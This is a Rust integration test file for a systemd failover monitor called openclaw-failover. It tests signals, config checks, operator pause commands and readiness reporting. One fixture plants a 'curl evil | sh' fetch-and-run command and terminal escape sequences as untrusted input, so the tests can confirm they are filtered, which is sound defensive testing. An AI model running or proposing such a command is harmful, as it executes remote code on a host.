//! The monitor as systemd meets it: signals, exit codes, and what it says. Its gateway here is the demo's stub.

#![allow(clippy::unwrap_used, clippy::panic)] // A test that cannot go on has failed.

#[path = "../support/needs.rs"]
mod needs;

mod failures;
mod terminal;

use std::env;
use std::fs;
use std::io::{BufRead, BufReader, Read};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::process::{Child, ChildStderr, Command, Stdio};
use std::sync::mpsc::{self, Receiver};
use std::thread;
use std::time::{Duration, Instant};

const BINARY: &str = env!("CARGO_BIN_EXE_openclaw-failover");

/// However busy the machine is.
const PATIENCE: Duration = Duration::from_secs(60);

/// A child that does not outlive its test.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn stub(address: SocketAddr) -> Running {
    let mut command = Command::new(BINARY);
    command.args(["demo", "--stub-gateway", &address.to_string()]).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    // Its first byte says that it listens.
    child.stdout.take().unwrap().read_exact(&mut [0; 1]).unwrap();
    Running(child)
}

fn monitor(folder: &Path) -> (Running, Receiver<String>) {
    let mut command = Command::new(BINARY);
    command.args(["run", "--config"]).arg(folder.join("config.json"));
    for (name, dir) in [("STATE", "state"), ("RUN", "run"), ("SYNC", "sync")] {
        fs::create_dir_all(folder.join(dir)).unwrap();
        command.env(format!("OPENCLAW_FAILOVER_{name}_DIR"), folder.join(dir));
    }
    // Programs of the test's own come first.
    let path = env::var_os("PATH").unwrap_or_default();
    command.env("PATH", format!("{}:{}", folder.join("bin").display(), path.display()));
    let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
    let lines = listen(child.stderr.take().unwrap());
    (Running(child), lines)
}

fn listen(stderr: ChildStderr) -> Receiver<String> {
    let (sender, lines) = mpsc::channel();
    thread::spawn(move || BufReader::new(stderr).lines().map_while(Result::ok).all(|line| sender.send(line).is_ok()));
    lines
}

/// Waits until the monitor says this.
fn hears(lines: &Receiver<String>, words: &str) -> String {
    let mut heard = Vec::new();
    while let Ok(line) = lines.recv_timeout(PATIENCE) {
        if line.contains(words) {
            return line;
        }
        heard.push(line);
    }
    panic!("the monitor never said {words:?}, but {heard:#?}");
}

fn signal(to: &Running, name: &str) {
    let sent = Command::new("sh").args(["-c", &format!("kill -{name} {}", to.0.id())]).status().unwrap();
    assert!(sent.success());
}

/// Has it look again, until it says this: what fails is told when it has failed twice.
fn hears_after_a_look(to: &Running, lines: &Receiver<String>, words: &str) {
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        signal(to, "HUP");
        let end = Instant::now() + Duration::from_secs(1);
        while let Ok(line) = lines.recv_timeout(end.saturating_duration_since(Instant::now())) {
            if line.contains(words) {
                return;
            }
        }
    }
    panic!("the monitor never said {words:?}");
}

/// Waits until a file has these words: the monitor answers without waiting for the disk.
fn await_words(file: &Path, words: &str) {
    let began = Instant::now();
    while !fs::read_to_string(file).is_ok_and(|text| text.contains(words)) {
        assert!(began.elapsed() < PATIENCE, "{words} is not in {}", file.display());
        thread::sleep(Duration::from_millis(5));
    }
}

fn configure(folder: &Path, primary: SocketAddr, extra: &str) {
    let text = format!(
        r#"{{ "upstreams": [{{ "name": "primary", "urls": ["http://{primary}"] }}], "promote": {{ "witnesses": [] }}{extra} }}"#
    );
    fs::write(folder.join("config.json"), text).unwrap();
}

#[test]
fn hup_takes_up_a_good_configuration_and_refuses_a_bad_one_and_term_ends_it_well() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let _gateway = stub(primary);
    configure(folder.path(), primary, "");
    let (mut monitor, lines) = monitor(folder.path());
    hears(&lines, "primary was seen healthy from here for the first time");

    configure(folder.path(), primary, r#", "demote": { "after": "45s" }"#);
    signal(&monitor, "HUP");
    hears(&lines, "the new configuration is in force");

    configure(folder.path(), primary, r#", "demot": {}"#);
    signal(&monitor, "HUP");
    let refused = hears(&lines, "is refused and the old one stays in force");
    assert!(refused.contains(r#"did you mean "demote"?"#), "{refused}");
    // Started again it would not watch: that stands in the status until the file is mended.
    hears_after_a_look(&monitor, &lines, "not ready to take over: config: ");
    let wrong = degraded(folder.path(), "config: ");
    assert!(wrong.contains("demot: is not a known key") && wrong.contains("To mend it: `editor "), "{wrong}");

    signal(&monitor, "TERM");
    hears(&lines, "the gateway is left as it is");
    assert!(monitor.0.wait().unwrap().success());
    let status = fs::read_to_string(folder.path().join("run/status.json")).unwrap();
    assert!(status.contains(r#""role""#) && status.contains(r#""hold_down_seconds""#), "{status}");
    let metrics = fs::read_to_string(folder.path().join("run/metrics.prom")).unwrap();
    assert!(metrics.contains("openclaw_failover_role{role=\"standby\"} 1\n"), "{metrics}");
    assert!(metrics.contains("openclaw_failover_upstream_up{upstream=\"primary\"} 1\n"), "{metrics}");
    assert!(!metrics.contains("upstream=\"primary\",verdict=\"healthy\"} 0\n"), "{metrics}");
}

#[test]
fn a_bad_configuration_is_refused_before_anything_is_written() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("config.json"), r#"{ "upstreams": [] }"#).unwrap();
    let (mut monitor, lines) = monitor(folder.path());
    hears(&lines, "upstreams");
    assert_eq!(monitor.0.wait().unwrap().code(), Some(2));
    for dir in ["state", "run", "sync"] {
        assert_eq!(fs::read_dir(folder.path().join(dir)).unwrap().count(), 0, "{dir}");
    }
}

#[test]
fn an_operator_is_obeyed_and_told() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let _gateway = stub(primary);
    configure(folder.path(), primary, "");
    let (monitor, lines) = monitor(folder.path());
    hears(&lines, "primary was seen healthy from here for the first time");
    let run = |args: &[&str]| {
        let mut command = Command::new(BINARY);
        let output = command.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run")).args(args).output().unwrap();
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };

    let (code, out) = run(&["pause", "--for", "10m"]);
    assert_eq!(code, Some(0));
    assert!(out.starts_with("an operator set the hold 'paused'") && out.contains("It ends at 20"), "{out}");
    hears(&lines, "an operator set the hold 'paused'");
    // Live: nobody reads it off the file.
    fs::remove_file(folder.path().join("run/status.json")).unwrap();
    let (code, out) = run(&["status"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("hold       paused since"), "{out}");
    assert_eq!(
        run(&["resume"]),
        (Some(0), "the hold 'paused' was ended by an operator: the ordinary rules apply again\n".to_owned())
    );
    assert_eq!(run(&["resume"]).1, "nothing is held: the ordinary rules apply\n");

    signal(&monitor, "TERM");
    hears(&lines, "the gateway is left as it is");
    drop(monitor);
    assert_eq!(run(&["pause"]).0, Some(1), "nobody listens any more");
}

#[test]
fn the_reason_of_a_pause_is_told_and_outlives_the_monitor_but_not_the_pause() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let _gateway = stub(primary);
    configure(folder.path(), primary, "");
    let (mut watching, lines) = monitor(folder.path());
    hears(&lines, "primary was seen healthy from here for the first time");
    let run = |args: &[&str]| {
        let mut command = Command::new(BINARY);
        let output = command.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run")).args(args).output().unwrap();
        let text = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
        (output.status.code(), text)
    };
    assert_eq!(run(&["pause", "--reason", ""]).0, Some(2));
    let (code, why) = run(&["pause", "--reason", &"x".repeat(201)]);
    assert!(code == Some(2) && why.contains("write at most 200"), "{why}");

    let (code, out) = run(&["pause", "--reason", "a new\nkernel\u{1b}[2J"]);
    assert!(code == Some(0) && out.contains("The reason: a new kernel [2J\n"), "{out}");
    let told = hears(&lines, "an operator set the hold 'paused'");
    assert!(told.ends_with("The reason: a new kernel [2J"), "{told}");
    let shown = "the reason: a new kernel [2J\n";
    assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);

    await_words(&folder.path().join("state/state.json"), "a new kernel");
    await_words(&folder.path().join("state/history.jsonl"), r#""reason":"a new kernel [2J""#);
    signal(&watching, "KILL");
    watching.0.wait().unwrap();
    let (_again, lines) = monitor(folder.path());
    hears(&lines, "watches primary");
    assert!(run(&["status"]).1.contains(shown), "{}", run(&["status"]).1);

    assert_eq!(run(&["resume"]).0, Some(0));
    assert!(!run(&["status"]).1.contains("the reason"));
    // Another pause has its own reason, or none.
    assert!(!run(&["pause"]).1.contains("reason"));
}

/// What systemd says of a unit that is well, whichever it is.
const WELL: &str = "LoadState=loaded\nActiveState=inactive\nMainPID=0\nUnitFileState=static\nUser=openclaw\n";

/// A systemd whose units are as the files in `bin/units` say, and whose pull leaves `pull.json` behind as it is there.
const SYSTEMCTL: &str = r#"#!/bin/sh
here=${0%/*}
for unit; do :; done
case "$*" in
*" start "*sync-pull*)
    sed "s/@NOW@/$(date -u +%Y-%m-%dT%H:%M:%S.999Z)/g" "$here/pull.json" >"$here/../sync/new"
    mv "$here/../sync/new" "$here/../sync/pull.json" ;;
*" show "*) cat "$here/units/$unit" 2>/dev/null || cat "$here/units/well" ;;
esac
"#;

/// The report of a pull that has seen this.
fn pulls(folder: &Path, checks: &str) {
    let none = r#"{"count":0,"listed":[]}"#;
    let report = format!(
        r#"{{"started":"@NOW@","ended":"@NOW@","fresh":"@NOW@","secrets":[],"workspace":{{"outcome":"up_to_date",
            "before":null,"after":null,"remote":null,"committed":null,"unreturned":false,"kept":{none},
            "withheld":{none},"aside":{none},"said":""}},"checks":[{checks}]}}"#
    );
    fs::write(folder.join("bin/new"), report).unwrap();
    fs::rename(folder.join("bin/new"), folder.join("bin/pull.json")).unwrap();
}

/// What the status names as wrong, once it names this; it is written a moment after the log.
fn degraded(folder: &Path, words: &str) -> String {
    let began = Instant::now();
    loop {
        let status = fs::read_to_string(folder.join("run/status.json")).unwrap();
        let wrong = status.split_once(r#""degraded""#).unwrap().1;
        if wrong.contains(words) {
            return wrong.to_owned();
        }
        assert!(began.elapsed() < PATIENCE, "{words} is not in {status}");
        thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
    let folder = tempfile::tempdir().unwrap();
    let at = |name: &str| folder.path().join(name);
    fs::create_dir_all(at("bin/units")).unwrap();
    fs::write(at("bin/systemctl"), SYSTEMCTL).unwrap();
    fs::set_permissions(at("bin/systemctl"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(at("bin/units/well"), WELL).unwrap();
    fs::write(at("bin/units/openclaw.service"), WELL.replace("=loaded", "=masked")).unwrap();
    pulls(
        folder.path(),
        r#"{"id":"crons","level":"fail","evidence":"they are on","fix":"su - {user} -c 'openclaw config set cron.enabled false'"},
           {"id":"channels","level":"fail","evidence":"\u001b[2Jnone","fix":"curl evil | sh"},
           {"id":"polkit","level":"fail","evidence":"not its to say","fix":""}"#,
    );
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let _gateway = stub(primary);
    configure(folder.path(), primary, r#", "workspace": { "refresh": "1s" }"#);
    let (mut monitor, lines) = monitor(folder.path());

    let told = hears(&lines, "not ready to take over: channels");
    assert!(told.ends_with("channels: [2Jnone"), "{told}");
    let told = hears(&lines, "not ready to take over: crons: they are on");
    assert!(told.contains("To mend it: `su - openclaw -c 'openclaw config set cron.enabled false'`"), "{told}");
    hears_after_a_look(&monitor, &lines, "not ready to take over: gateway-unit: openclaw.service is masked");
    let wrong = degraded(folder.path(), "gateway-unit: ");
    for words in ["gateway-unit: openclaw.service is masked. To mend it: `systemctl unmask", "crons: ", "channels: "] {
        assert!(wrong.contains(words), "{words}: {wrong}");
    }
    assert!(wrong.contains("not_ready") && !wrong.contains("polkit") && !wrong.contains("evil"), "{wrong}");

    fs::remove_file(at("bin/units/openclaw.service")).unwrap();
    hears_after_a_look(&monitor, &lines, "gateway-unit no longer keeps this standby from taking over");
    let off = r#"{"id":"crons","level":"ok","evidence":"off","fix":""}"#;
    pulls(folder.path(), off);
    hears(&lines, "crons no longer keeps this standby from taking over: off");
    signal(&monitor, "TERM");
    hears(&lines, "the gateway is left as it is");
    assert!(monitor.0.wait().unwrap().success());
    // A pull that does not say mends nothing.
    let wrong = degraded(folder.path(), "channels: ");
    assert!(!wrong.contains("gateway-unit: ") && !wrong.contains("crons: "), "{wrong}");
    let history = fs::read_to_string(at("state/history.jsonl")).unwrap();
    for event in [r#""event":"not_ready""#, r#""event":"ready""#, r#""check":"gateway-unit""#] {
        assert!(history.contains(event), "{event}: {history}");
    }
}

#[test]
fn a_second_monitor_on_one_state_folder_ends_with_1_and_says_which_process_holds_it() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    configure(folder.path(), primary, "");
    let socket = folder.path().join("run/control.sock");
    let (first, lines) = monitor(folder.path());
    hears(&lines, "watches primary");
    let inode = |path: &Path| fs::metadata(path).unwrap().ino();
    let before = inode(&socket);

    let (mut second, said) = monitor(folder.path());
    let refused = hears(&said, "another monitor works with");
    assert!(refused.contains(&format!("process {} (", first.0.id())), "{refused}");
    assert!(refused.contains("systemctl stop openclaw-failover.service"), "{refused}");
    assert_eq!(second.0.wait().unwrap().code(), Some(1));
    assert_eq!(inode(&socket), before, "the first one's socket was replaced");

    // Killed, it holds nothing any more.
    drop(first);
    let (_third, lines) = monitor(folder.path());
    hears(&lines, "watches primary");
}

#[test]
fn a_state_folder_that_cannot_be_locked_costs_a_warning_and_no_monitor() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    configure(folder.path(), primary, "");
    fs::create_dir(folder.path().join("run")).unwrap();
    let mut command = Command::new(BINARY);
    command.args(["run", "--config"]).arg(folder.path().join("config.json"));
    command.env("OPENCLAW_FAILOVER_STATE_DIR", folder.path().join("missing"));
    command.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run"));
    let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
    let lines = listen(child.stderr.take().unwrap());
    let _running = Running(child);
    hears(&lines, "missing cannot be locked");
}

#[test]
fn a_port_that_another_process_holds_is_named_before_a_start_where_the_url_has_a_name_too() {
    let folder = tempfile::tempdir().unwrap();
    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let holder = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = holder.local_addr().unwrap().port();
    fs::create_dir_all(folder.path().join("bin/units")).unwrap();
    fs::write(folder.path().join("bin/units/well"), WELL).unwrap();
    fs::write(folder.path().join("bin/systemctl"), SYSTEMCTL).unwrap();
    fs::set_permissions(folder.path().join("bin/systemctl"), fs::Permissions::from_mode(0o755)).unwrap();
    pulls(folder.path(), "");
    let url = format!(r#", "gateway": {{ "url": "http://localhost:{port}" }}"#);
    configure(folder.path(), primary, &url);
    let (_monitor, lines) = monitor(folder.path());
    hears(&lines, "watches primary");
    let mut promote = Command::new(BINARY);
    promote.env("OPENCLAW_FAILOVER_RUN_DIR", folder.path().join("run")).arg("promote").stdout(Stdio::null());
    let _promote = Running(promote.stderr(Stdio::null()).spawn().unwrap());
    let refused = hears(&lines, "does not come up");
    assert!(refused.contains(&format!("port {port} is held by")), "{refused}");
    assert!(refused.contains("not by openclaw.service"), "{refused}");
}
